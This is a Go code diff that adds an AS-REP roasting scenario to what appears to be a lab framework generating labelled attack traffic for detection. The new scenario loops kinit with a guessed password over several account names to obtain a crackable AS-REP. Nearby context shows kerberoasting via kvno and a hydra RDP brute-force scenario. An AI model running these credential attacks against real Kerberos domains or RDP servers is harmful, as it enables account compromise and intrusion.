@@ -33,6 +33,7 @@ func init() {
 		mysqlBrute(),
 		kerberosSpray(),
 		kerberoasting(),
+		asrepRoasting(),
 		bruteScenario("bruteforce-rdp", "bruteforce.rdp", hostServer, "rdp://%s",
 			"hydra tries RDP logins on the server's xrdp (no NLA: xrdp decides on its login screen, so hydra's verdicts mean nothing, but every try is a real RDP connection over TLS)."),
 		&Scenario{
@@ -197,6 +198,34 @@ func kerberoasting() *Scenario {
 			}
 			script := fmt.Sprintf("export KRB5_CONFIG=%s KRB5CCNAME=FILE:%s; echo '%s' | kinit %s@%s >/dev/null && kvno %s; true",
 				conf, a.w.path("krb5/attacker.ccache"), labUserPassword, labUser, krbRealm, strings.Join(spns, " "))
+			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
+		},
+	}
+}
+
+// asrepRoasting is an outsider without credentials asking srv's KDC for
+// the AS-REPs of a few account names with kinit: the KDC answers
+// svc_legacy's (no pre-authentication required, an RC4 key) with its
+// AS-REP straight away, whose RC4 part the attacker cracks offline (kinit,
+// given a wrong password, cannot decrypt it); the others need
+// pre-authentication, which the wrong password fails.
+func asrepRoasting() *Scenario {
+	users := []string{krbNoPreauth, labUser, "admin"}
+	return &Scenario{
+		Name: "asrep-roasting", Difficulty: Medium,
+		Description: fmt.Sprintf("AS-REP roasting: kinit asks the KDC of realm %s on srv for the tickets of %s without a password it knows; "+
+			"%s needs no pre-authentication and has an RC4 key, so the KDC sends its RC4 AS-REP, to crack offline.",
+			krbRealm, strings.Join(users, ", "), krbNoPreauth),
+		Tools: []string{"kinit", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"kerberos.asreproast"}, MITRE: []string{"T1558.004"},
+		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 15 * time.Second,
+		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
+		attack: func(a *attackRun) error {
+			conf, err := krb5Client(a.w)
+			if err != nil {
+				return err
+			}
+			script := fmt.Sprintf("export KRB5_CONFIG=%s; for u in %s; do echo guess | kinit \"$u@%s\" >/dev/null 2>&1; done; true",
+				conf, strings.Join(users, " "), krbRealm)
 			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
 		},
 	}
